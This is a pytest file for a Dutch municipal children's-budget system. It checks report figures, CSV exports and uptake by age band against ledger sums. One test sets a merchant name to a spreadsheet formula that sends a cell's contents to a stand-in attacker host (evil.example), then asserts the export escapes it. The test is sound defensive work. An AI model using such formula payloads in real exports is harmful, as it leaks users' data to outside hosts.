"""Report figures equal sums computed independently from the ledger with plain SQL."""

from __future__ import annotations

from datetime import date

import pytest
from sqlalchemy import select, text, update

from adapter import ledger, reports
from adapter.models import Budget, utcnow
from adapter.periods import local_day, parse_period
from tests import factories


class _NoKeys:
    """A vault for a report that must decrypt nothing: any use of it fails the test."""

    def __getattr__(self, name):  # type: ignore[no-untyped-def]
        raise AssertionError(f"the report used the keys ({name}) though every budget keeps its age band")


@pytest.fixture(params=["bands_kept", "from_birth_dates"])
def uptake_of(request, db, vault):  # type: ignore[no-untyped-def]
    """``reports.uptake`` both ways: counted by the age bands the budgets keep (the grants work them out; the
    report then decrypts nothing), and from the children's birth dates, as for budgets opened before budgets
    kept a band."""
    def uptake(period):  # type: ignore[no-untyped-def]
        with db.write() as session:
            if request.param == "bands_kept":
                _keep_bands(session, vault)
            else:
                session.execute(update(Budget).values(age_band=None))
        with db.read() as session:
            return reports.uptake(session, _NoKeys() if request.param == "bands_kept" else vault, period)
    return uptake


def _keep_bands(session, vault):  # type: ignore[no-untyped-def]
    """Each budget's band as the grants (and migration 0011) work it out: the child's age on its first day."""
    from adapter import age_bands
    from adapter.models import Cardholder
    from adapter.personal import open_sealed

    for budget_id, first_day, token in session.execute(
            select(Budget.id, Budget.period_start, Cardholder.personal_encrypted)
            .join(Cardholder, Cardholder.id == Budget.cardholder_id)).all():
        born = None if token is None else open_sealed(vault, token).birth_date
        session.execute(update(Budget).where(Budget.id == budget_id)
                        .values(age_band=age_bands.band_of(born, first_day)))


def _year_period():
    return parse_period(str(local_day(utcnow()).year))


def _spend(db, child, merchant_id, amount_cents):
    return ledger.redeem(db, ledger.RedemptionRequest(merchant_id=merchant_id, budget_id=child.budget_id,
                                                      pass_id=child.pass_id, amount_cents=amount_cents, actor="test"))


def _setup(db, vault):
    year = local_day(utcnow()).year
    period = (date(year, 1, 1), date(year, 12, 31))
    school = factories.child_with_budget(db, vault, amount_cents=10_000, category="school", period=period)
    sport = factories.child_with_budget(db, vault, amount_cents=8_000, category="sport", period=period,
                                        bsn="999993847")
    idle = factories.child_with_budget(db, vault, amount_cents=5_000, category="school", period=period,
                                       bsn="999992077")
    shop = factories.merchant(db, "Boekhandel", ("school", "sport"))
    first = _spend(db, school, shop.merchant_id, 2_500)
    _spend(db, sport, shop.merchant_id, 1_000)
    ledger.reverse(db, ledger.ReversalRequest(merchant_id=shop.merchant_id, redemption_id=first.redemption_id,
                                              reason="retour", actor="test", amount_cents=500))
    with db.write() as session:
        ledger.expire(session, idle.budget_id, actor="test")
    return school, sport, idle


def test_spending_equals_ledger_sums(db, vault):
    _setup(db, vault)
    period = _year_period()
    with db.read() as session:
        by_category = reports.spending_by_category(session, period)
        by_merchant = reports.spending_by_merchant(session, period)
        sql_by_category = dict(session.execute(text(
            "SELECT b.category, -SUM(e.amount_cents) FROM ledger_entries e JOIN budgets b ON b.id = e.budget_id "
            "WHERE e.kind IN ('redemption', 'reversal') GROUP BY b.category")).all())
        sql_total = session.execute(text(
            "SELECT -SUM(amount_cents) FROM ledger_entries WHERE kind IN ('redemption', 'reversal')")).scalar_one()
    net_by_category: dict[str, int] = {}
    for category, net in zip(by_category.column_values("category"), by_category.column_values("net_cents")):
        net_by_category[category] = net_by_category.get(category, 0) + net
    assert net_by_category == {k: int(v) for k, v in sql_by_category.items()}
    assert sum(by_merchant.column_values("net_cents")) == int(sql_total) == 3_000


def test_budget_totals_equal_ledger_and_balance_identity_holds(db, vault):
    _setup(db, vault)
    period = _year_period()
    with db.read() as session:
        table = reports.budget_totals(session, period)
        sums = dict(session.execute(text("SELECT kind, SUM(amount_cents) FROM ledger_entries GROUP BY kind")).all())
        balances = session.execute(text("SELECT SUM(balance_cents) FROM budgets")).scalar_one()
    total = table.rows[-1]
    assert total[0] == reports.TOTAL
    assert total[1] == int(sums["grant"])
    assert total[2] == -(int(sums["redemption"]) + int(sums["reversal"]))
    assert total[3] == -int(sums["expiry"]) == 5_000
    assert total[5] == int(balances)  # remaining at the end equals the cached balances
    assert total[1] - total[2] - total[3] + total[4] == total[5]


def test_expired_budgets_are_shown_as_expired_not_dropped(db, vault):
    _setup(db, vault)
    with db.read() as session:
        table = reports.budgets_by_status(session, _year_period())
    by_status = {row[2]: row for row in table.rows}
    assert by_status["vervallen"][3] == 1 and by_status["vervallen"][6] == 5_000
    assert by_status["open"][3] == 2
    assert sum(table.column_values("budgets")) == 3


def test_uptake_counts_children_with_budget_and_with_redemption(db, vault, uptake_of):
    _setup(db, vault)
    table = uptake_of(_year_period())
    with db.read() as session:
        eligible_sql = session.execute(text("SELECT COUNT(DISTINCT cardholder_id) FROM budgets")).scalar_one()
        redeemed_sql = session.execute(text(
            "SELECT COUNT(DISTINCT b.cardholder_id) FROM redemptions r JOIN budgets b ON b.id = r.budget_id "
            "WHERE r.amount_cents > r.reversed_cents")).scalar_one()
    totals = [row for row in table.rows if row[0] == reports.TOTAL and row[2] != reports.ALL_AGES]
    assert sum(row[3] for row in totals) == eligible_sql == 3
    assert sum(row[4] for row in totals) == redeemed_sql == 2
    assert {row[2] for row in totals} == {"4 t/m 11"}  # born 2015-05-05, age on 1 January
    assert [row[1:5] for row in table.rows if row[2] == reports.ALL_AGES] == [("school", reports.ALL_AGES, 3, 2)]


def test_a_child_in_two_age_bands_is_one_child_of_its_rule(db, vault, uptake_of):
    """Budgets of two periods with a birthday between them put a child in two bands: in each band's row, and
    once in the rule's row over all ages, which the dashboard's chart shows (it added the bands' rows, and
    counted such a child twice)."""
    from adapter.periods import parse_period
    from adapter.web.admin import _charts

    child = factories.child_with_budget(db, vault, period=(date(2020, 1, 1), date(2020, 12, 31)))  # born 2015-05-05
    with db.write() as session:
        session.add(Budget(cardholder_id=child.cardholder_id, rule_code="school", rule_name="Schoolspullen",
                           category="school", period_key="2016", period_start=date(2016, 1, 1),
                           period_end=date(2016, 12, 31)))
    period = parse_period("2016..2020")
    tables = {"uptake": uptake_of(period)}
    with db.read() as session:
        tables |= {"spending-by-category": reports.spending_by_category(session, period),
                   "budget-totals": reports.budget_totals(session, period)}
    bands = {row[2]: row[3] for row in tables["uptake"].rows if row[0] == reports.TOTAL}
    assert bands == {"0 t/m 3": 1, "4 t/m 11": 1, reports.ALL_AGES: 1}
    chart = _charts(tables, period)["uptake"]
    assert "<title>kinderen met tegoed, school: 1</title>" in str(chart)


def test_csv_is_dutch_excel_friendly(db, vault):
    _setup(db, vault)
    with db.read() as session:
        data = reports.budget_totals(session, _year_period()).csv_bytes()
    assert data.startswith("\ufeff".encode())
    lines = data.decode("utf-8-sig").splitlines()
    assert lines[0].split(";")[0] == "maand"
    assert lines[-1].split(";")[1] == "230,00"  # granted: 100 + 80 + 50 euros, decimal comma


def test_budget_rows_use_integer_cents(db, vault):
    _setup(db, vault)
    with db.read() as session:
        granted = session.execute(text("SELECT SUM(granted_cents) FROM budgets")).scalar_one()
        table = reports.budgets_by_status(session, _year_period())
    assert sum(table.column_values("granted_cents")) == int(granted)
    assert all(isinstance(value, int) for value in table.column_values("balance_cents"))


def test_a_merchant_name_that_looks_like_a_formula_is_exported_as_text_and_amounts_stay_numbers(db, vault):
    """Opened in Excel, a cell starting with = + - @ runs as a formula (CSV injection): such text gets a leading
    apostrophe. A negative amount in euros is a number and keeps its sign."""
    from adapter.csvexport import cell_text, to_csv_bytes

    year = local_day(utcnow()).year
    child = factories.child_with_budget(db, vault, amount_cents=10_000, category="school",
                                        period=(date(year, 1, 1), date(year, 12, 31)))
    evil = factories.merchant(db, '=HYPERLINK("http://evil.example/?"&A1,"klik")', ("school",))
    _spend(db, child, evil.merchant_id, 1_000)
    with db.read() as session:
        exported = reports.spending_by_merchant(session, _year_period()).csv_bytes().decode("utf-8-sig")
    assert "'=HYPERLINK(" in exported and ";=HYPERLINK(" not in exported and not exported.startswith("=")
    assert [cell_text(value) for value in ("+31 6", "@SUM(A1)", "-2+3", "-12,50", "-7", -1250, "Boekhandel")] == \
        ["'+31 6", "'@SUM(A1)", "'-2+3", "-12,50", "-7", "-1250", "Boekhandel"]
    assert to_csv_bytes(["a"], [["\t=1"]]).decode("utf-8-sig").splitlines()[1] == "'\t=1"


def test_the_dashboards_last_sync_is_the_last_real_run_not_an_operators_dry_run(db):
    # The night's run was refused; a dry run at noon must not hide that (nor its red) on the dashboard.
    from adapter.models import SyncRun, SyncStatus

    with db.write() as session:
        session.add(SyncRun(source="gemeente", status=SyncStatus.REFUSED, reason="too many missing"))
        session.flush()
        session.add(SyncRun(source="gemeente", status=SyncStatus.DRY_RUN))
    with db.read() as session:
        overview = reports.sync_overview(session)
    assert [(row[0], row[2]) for row in overview.last_runs.rows] == [("gemeente", "geweigerd")]
    assert overview.refused_sources == frozenset({"gemeente"})


def test_budgets_by_status_adds_up_to_the_balance_with_corrections(db, vault):
    """granted - spent - expired + corrected = balance on every row, as in the monthly totals: a correction
    (`stadspas-adapter ledger correct`) is money too, and without its column the row did not add up."""
    school, _sport, _idle = _setup(db, vault)
    with db.write() as session:
        ledger.correct(session, school.budget_id, -400, actor="operator", reason="dubbel toegekend")
    with db.read() as session:
        table = reports.budgets_by_status(session, _year_period())
    assert sum(table.column_values("corrected_cents")) == -400
    for record in table.as_records():
        assert record["granted_cents"] - record["spent_cents"] - record["expired_cents"] + \
            record["corrected_cents"] == record["balance_cents"], record



def test_uptake_over_a_long_period_walks_only_each_budgets_own_months(db, vault, uptake_of):
    """The dashboard accepts 1900..2999 (13,200 months); walking all of them for every budget took minutes at a
    city's size, past the web worker's 30-second timeout. Each budget is counted in its own months alone."""
    import time


    child = factories.child_with_budget(db, vault, period=(date(2026, 1, 1), date(2026, 12, 31)))
    with db.write() as session:
        session.add_all(Budget(cardholder_id=child.cardholder_id, rule_code=f"rule-{number}", rule_name="Regeling",
                               category="school", period_key="2026-2027", period_start=date(2026, 8, 1),
                               period_end=date(2027, 7, 31)) for number in range(80))
    started = time.perf_counter()
    table = uptake_of(parse_period("1900..2999"))
    elapsed = time.perf_counter() - started
    months = sorted({row[0] for row in table.rows if row[1] == "rule-0"})
    assert months[:-1] == [f"2026-{month:02d}" for month in range(8, 13)] + [f"2027-{month:02d}"
                                                                            for month in range(1, 8)]
    assert months[-1] == reports.TOTAL
    assert elapsed < 1.0, f"uptake over 1900..2999 took {elapsed:.1f} s"


def test_no_age_band_in_the_uptake_csv_is_a_day_and_month_that_dutch_excel_turns_into_a_date(db, vault,
                                                                                                 uptake_of):
    """The finance officer opens the CSV in Excel: "4-11" became 4 November, the band lost."""
    import re


    child = factories.child_with_budget(db, vault, period=(date(2020, 1, 1), date(2020, 12, 31)))  # born 2015-05-05
    with db.write() as session:
        session.add_all([
            Budget(cardholder_id=child.cardholder_id, rule_code="school", rule_name="Schoolspullen", category="school",
                   period_key="2016", period_start=date(2016, 1, 1), period_end=date(2016, 12, 31)),
            Budget(cardholder_id=child.cardholder_id, rule_code="school", rule_name="Schoolspullen", category="school",
                   period_key="2029", period_start=date(2029, 1, 1), period_end=date(2029, 12, 31)),
            Budget(cardholder_id=child.cardholder_id, rule_code="school", rule_name="Schoolspullen", category="school",
                   period_key="2034", period_start=date(2034, 1, 1), period_end=date(2034, 12, 31))])
    table = uptake_of(parse_period("2016..2034"))
    bands = {row[2] for row in table.rows}
    assert bands == {"0 t/m 3", "4 t/m 11", "12 t/m 17", "18 en ouder", reports.ALL_AGES}
    csv_cells = table.csv_bytes().decode("utf-8-sig").replace("\r\n", ";").split(";")
    day_month = re.compile(r"(\d{1,2})[-/](\d{1,2})")
    assert not [cell for cell in csv_cells if (found := day_month.fullmatch(cell))
                and 1 <= int(found.group(1)) <= 31 and 1 <= int(found.group(2)) <= 12]


def test_sources_not_synced_since_names_the_late_and_the_never_run(db):
    from datetime import timedelta

    from adapter.models import SyncRun, SyncStatus

    now = utcnow()
    with db.write() as session:
        session.add_all([SyncRun(source="oud", status=SyncStatus.FAILED, started_at=now - timedelta(days=2)),
                         SyncRun(source="vers", status=SyncStatus.REFUSED, started_at=now - timedelta(hours=1))])
    with db.read() as session:
        late = reports.sources_not_synced_since(reports.sync_overview(session), ["vers", "oud", "nooit"],
                                                now - timedelta(hours=26))
    assert [source for source, _when in late] == ["nooit", "oud"]
    assert late[0][1] == "" and late[1][1].startswith(str(local_day(now - timedelta(days=2))))


def test_the_dashboards_charts_of_a_long_period_are_drawn_in_moments(db, vault):
    """The month chart's labels asked, for every month, which years all the months span: 13,200 months of
    1900..2999 took 35 s, past the web worker's 30-second timeout."""
    import time

    from adapter.web.admin import _charts

    factories.child_with_budget(db, vault, period=(date(2026, 1, 1), date(2026, 12, 31)))
    period = parse_period("1900..2999")
    with db.read() as session:
        tables = {"uptake": reports.uptake(session, vault, period),
                  "spending-by-category": reports.spending_by_category(session, period),
                  "budget-totals": reports.budget_totals(session, period)}
    started = time.perf_counter()
    chart = str(_charts(tables, period)["months"])
    elapsed = time.perf_counter() - started
    assert ">1900-01</text>" in chart and ">2999-12</text>" in chart
    assert elapsed < 2.0, f"the charts of 1900..2999 took {elapsed:.1f} s"


def test_budgets_by_status_of_a_past_month_says_its_figures_are_todays(db, vault):
    """For a month before any spending, the budget totals say nothing was spent while this table shows what the
    same budgets spent since: its title must say it is today's state, not the month's."""
    school, _sport, _idle = _setup(db, vault)
    year = local_day(utcnow()).year
    with db.read() as session:
        table = reports.budgets_by_status(session, parse_period(f"{year}-01..{year}-01"))
    assert "stand van vandaag" in table.title and "na de periode" in table.title


def test_uptake_counted_by_kept_bands_is_uptake_from_birth_dates(db, vault):
    """Children of every band and without a birth date; budgets of periods that follow each other by whole
    months, that start mid-month, and that overlap (a rule that changed its kind of period); some spent: the
    figures counted in the database by the bands the budgets keep are those worked out from the birth dates."""
    import random

    from adapter.models import Cardholder
    from adapter.personal import PersonalFields, seal

    rng = random.Random(7)
    running = [(date(2026, 1, 1), date(2026, 12, 31)), (date(2026, 8, 1), date(2027, 7, 31)),
               (date(2026, 9, 15), date(2027, 3, 14))]
    earlier = [(date(2025, 8, 1), date(2026, 7, 31)), (date(2026, 3, 15), date(2026, 9, 14)),
               (date(2025, 1, 1), date(2025, 12, 31))]
    shop = factories.merchant(db, "Boekhandel", ("school",))
    for number in range(40):
        child = factories.child_with_budget(db, vault, period=rng.choice(running))
        born = None if number % 9 == 0 else date(2008 + rng.randrange(19), rng.randrange(1, 13), rng.randrange(1, 29))
        with db.write() as session:
            session.execute(update(Cardholder).where(Cardholder.id == child.cardholder_id).values(
                personal_encrypted=seal(vault, PersonalFields(bsn=None, first_names="Sanne", surname="Jansen",
                                                              birth_date=born))))
            for first_day, last_day in rng.sample(earlier, rng.randrange(3)):
                session.add(Budget(cardholder_id=child.cardholder_id, rule_code="school", rule_name="Schoolspullen",
                                   category="school", period_key=f"{first_day}", period_start=first_day,
                                   period_end=last_day))
        if rng.random() < 0.5:
            _spend(db, child, shop.merchant_id, rng.randrange(100, 5_000))
    period = parse_period("2025-06..2027-09")
    with db.write() as session:
        _keep_bands(session, vault)
    with db.read() as session:
        counted = reports.uptake(session, _NoKeys(), period)
    with db.write() as session:
        session.execute(update(Budget).values(age_band=None))
    with db.read() as session:
        from_birth_dates = reports.uptake(session, vault, period)
    assert counted.rows == from_birth_dates.rows
    assert {row[2] for row in counted.rows} >= {"4 t/m 11", "12 t/m 17", "18 en ouder", reports.UNKNOWN_AGE}
    assert any(row[4] for row in counted.rows if row[0] != reports.TOTAL)


def test_the_ledgers_sums_go_to_the_amsterdam_month_of_their_moment(db, vault):
    """Summed by the hour in UTC in the database: an entry of 31 January 23:30 in Amsterdam (22:30 UTC) is
    January's, one of 1 February 00:30 (23:30 UTC the day before) February's; in summer two hours apart."""
    from datetime import datetime, timezone

    from adapter.models import EntryKind, LedgerEntry

    child = factories.child_with_budget(db, vault, amount_cents=0, period=(date(2026, 1, 1), date(2026, 12, 31)))
    moments = {datetime(2026, 1, 31, 22, 30, tzinfo=timezone.utc): 100,  # 23:30 on 31 January
               datetime(2026, 1, 31, 23, 30, tzinfo=timezone.utc): 20,   # 00:30 on 1 February
               datetime(2026, 7, 31, 21, 59, tzinfo=timezone.utc): 3,    # 23:59 on 31 July (summer time)
               datetime(2026, 7, 31, 22, 0, tzinfo=timezone.utc): 4000}  # 00:00 on 1 August
    with db.write() as session:
        session.add_all(LedgerEntry(budget_id=child.budget_id, kind=EntryKind.CORRECTION, amount_cents=cents,
                                    balance_after_cents=0, actor="test", created_at=moment)
                        for moment, cents in moments.items())
    with db.read() as session:
        table = reports.budget_totals(session, parse_period("2026"))
    corrected = dict(zip(table.column_values("month"), table.column_values("corrected_cents")))
    assert (corrected["2026-01"], corrected["2026-02"], corrected["2026-07"], corrected["2026-08"]) == (100, 20, 3, 4000)


def test_the_uptake_from_birth_dates_reads_them_by_a_query_not_a_list_of_every_childs_id(db, vault):
    """A list of ids takes a parameter per child: PostgreSQL refused the uptake of a city from 65,536 children
    on (its limit of parameters in a statement), so the dashboard failed after an upgrade until the next sync."""
    from sqlalchemy import event

    from tests.fixture_personal_data import TEST_BSNS

    for bsn in TEST_BSNS[:3]:
        factories.child_with_budget(db, vault, bsn=bsn)
    reads: list[int] = []

    def watch(_connection, _cursor, statement, parameters, *_args):  # type: ignore[no-untyped-def]
        if "cardholders.personal_encrypted" in statement:
            reads.append(len(parameters))

    event.listen(db.engine, "before_cursor_execute", watch)
    try:
        with db.read() as session:
            table = reports.uptake(session, vault, _year_period())
    finally:
        event.remove(db.engine, "before_cursor_execute", watch)
    assert [row[3] for row in table.rows if row[2] == reports.ALL_AGES] == [3]
    assert len(reads) == 1 and reads[0] <= 2  # the period's two days, whatever the number of children


def test_budgets_without_a_band_beside_banded_ones_count_each_child_in_the_band_its_payments_are_in(db, vault):
    """One budget without a band puts the report on its birth dates; the banded ones keep their band there. Worked
    out again from a birth date corrected since, a child was counted as having a budget in one band and as
    spending in another."""
    from datetime import date as day

    from adapter.models import Cardholder
    from adapter.personal import PersonalFields, seal
    from tests.fixture_personal_data import TEST_BSNS

    period = (day(2026, 1, 1), day(2026, 12, 31))
    shop = factories.merchant(db, "Boekhandel", ("school",))
    spender = factories.child_with_budget(db, vault, period=period)  # born 2015-05-05: 4-11 on its first day
    with db.write() as session:
        _keep_bands(session, vault)
        session.execute(update(Cardholder).where(Cardholder.id == spender.cardholder_id).values(
            personal_encrypted=seal(vault, PersonalFields(bsn=TEST_BSNS[0], first_names="Sanne", surname="Jansen",
                                                          birth_date=day(2012, 5, 5)))))  # corrected: 12-17
    _spend(db, spender, shop.merchant_id, 500)
    factories.child_with_budget(db, vault, period=period, bsn=TEST_BSNS[1])  # no band: 4-11 by its birth date
    with db.read() as session:
        table = reports.uptake(session, vault, parse_period("2026"))
    totals = {row[2]: row[3:5] for row in table.rows if row[0] == reports.TOTAL}
    assert totals == {"4 t/m 11": (2, 1), reports.ALL_AGES: (2, 1)}


@pytest.mark.parametrize("counted_by", ["kept_bands", "birth_dates"])
def test_a_child_with_two_budgets_of_a_rule_over_the_same_dates_is_one_child(db, vault, counted_by):
    """The budgets' unique key is the period's key: two keys of a rule can name the same dates."""
    child = factories.child_with_budget(db, vault, period=(date(2026, 1, 1), date(2026, 12, 31)))
    with db.write() as session:
        session.add(Budget(cardholder_id=child.cardholder_id, rule_code="school", rule_name="Schoolspullen",
                           category="school", period_key="once", period_start=date(2026, 1, 1),
                           period_end=date(2026, 12, 31)))
        session.flush()
        if counted_by == "kept_bands":
            _keep_bands(session, vault)
    with db.read() as session:
        table = reports.uptake(session, vault, parse_period("2026"))
    assert {row[3] for row in table.rows} == {1}
